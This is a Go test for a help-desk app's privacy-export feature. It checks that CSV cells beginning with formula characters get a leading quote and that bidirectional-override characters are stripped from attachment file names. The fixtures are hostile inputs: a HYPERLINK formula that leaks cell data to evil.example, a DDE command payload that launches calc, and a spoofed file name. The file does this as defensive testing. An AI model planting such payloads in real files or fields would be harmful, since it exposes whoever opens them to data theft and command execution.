package privacy_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"calldesk/internal/desk"
	"calldesk/internal/privacy"
	"calldesk/internal/store/storetest"
)

// TestSARCSVNeutralised: a customer's call whose summary is a spreadsheet formula, whose
// description and diary entry begin with other formula characters, comes out of the bundle's CSV
// files with a quote in front of each such cell (a spreadsheet shows it as text and does not run
// it), while the JSON files keep the exact text; and a file name with a bidirectional override
// is listed and zipped as shown, without it (issue 13).
func TestSARCSVNeutralised(t *testing.T) {
	storetest.EachEnv(t, start, func(t *testing.T, e *storetest.Env) {
		ctx := context.Background()
		f := e.F
		summary := `=HYPERLINK("http://evil.example/?d="&A1,"Open")`
		c, err := e.S.CreateCall(ctx, storetest.Actor(f.Dan), desk.NewCall{Kind: desk.Fault, Summary: summary,
			Description: "+1 the printer jams", CustomerID: f.Dan.ID, Source: desk.SourcePortal, Impact: desk.Low, Urgency: desk.Low})
		if err != nil {
			t.Fatal(err)
		}
		e.Clock.Advance(1e9)
		if _, err := e.S.AddEntryWithAttachments(ctx, storetest.Actor(f.Dan), c.Ref, desk.EntryUpdate, "@SUM(1+1)*cmd|' /C calc'!A0",
			[]desk.Upload{{Filename: "-2+3.txt", Data: []byte("notes\n")}, {Filename: "scan\u202Efdp.txt", Data: []byte("scan\n")}}, desk.AttachmentRules{}); err != nil {
			t.Fatal(err)
		}
		b := &privacy.Builder{Store: e.S, Now: e.Clock.Now, ParseMail: parseMail}
		bu, err := b.Gather(ctx, f.Dan.ID, nil)
		if err != nil {
			t.Fatal(err)
		}
		data, err := bu.RenderBytes(ctx, privacy.Decisions{}, storeFiles(e.S))
		if err != nil {
			t.Fatal(err)
		}
		files := unzip(t, data)
		cell := func(file, column string, row int) string {
			t.Helper()
			rows, err := csv.NewReader(bytes.NewReader(files[file])).ReadAll()
			if err != nil {
				t.Fatalf("%s: %v", file, err)
			}
			if len(rows) <= row {
				t.Fatalf("%s has %d rows:\n%s", file, len(rows), files[file])
			}
			for i, h := range rows[0] {
				if h == column {
					return rows[row][i]
				}
			}
			t.Fatalf("%s has no column %q", file, column)
			return ""
		}
		for _, tc := range []struct{ file, column, want string }{
			{"calls.csv", "summary", "'" + summary},
			{"calls.csv", "description", "'+1 the printer jams"},
			{"entries.csv", "text", "'@SUM(1+1)*cmd|' /C calc'!A0"},
			{"attachments.csv", "filename", "'-2+3.txt"},
			{"attachments.csv", "filename", "scanfdp.txt"},
		} {
			row := 1
			if tc.want == "scanfdp.txt" {
				row = 2
			}
			if got := cell(tc.file, tc.column, row); got != tc.want {
				t.Errorf("%s %s = %q, want %q", tc.file, tc.column, got, tc.want)
			}
		}
		// The file's name in the zip is the name as shown, without the invisible characters.
		if paths := filesUnder(files, "attachments/"); len(paths) != 2 || !strings.HasSuffix(paths[0]+paths[1], "-scanfdp.txt") && !strings.HasSuffix(paths[1]+paths[0], "-scanfdp.txt") {
			t.Errorf("files in the zip: %q", paths)
		}
		var calls []struct {
			Summary string `json:"summary"`
		}
		if err := json.Unmarshal(files["calls.json"], &calls); err != nil {
			t.Fatal(err)
		}
		if len(calls) != 1 || calls[0].Summary != summary {
			t.Errorf("calls.json must keep the exact summary %q: %+v", summary, calls)
		}
	})
}
